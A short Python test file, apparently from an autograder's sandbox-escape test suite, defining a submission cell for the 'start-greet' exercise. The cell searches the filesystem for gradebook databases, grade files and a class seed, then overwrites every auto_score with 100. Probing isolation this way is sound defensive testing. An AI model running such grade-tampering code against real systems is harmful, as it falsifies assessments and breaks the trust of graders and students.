"""Looks for a gradebook, a table of grades or a seed, and gives itself full marks."""

from attacks import IF_ESCAPED

EXERCISE = "start-greet"
CELL = (
    r"""
import glob, os, sqlite3
escaped = False
for pattern in ("/*.db", "/*/*.db", "/*/*/gradebook.db", "../*.db", "../../*.db",
                "/tmp/**/grades.csv", "/**/.class-seed"):
    for path in glob.glob(pattern, recursive=pattern.startswith("/tmp")):
        sqlite3.connect(path).execute("update grade set auto_score = 100")
        escaped = True
"""
    + IF_ESCAPED
)
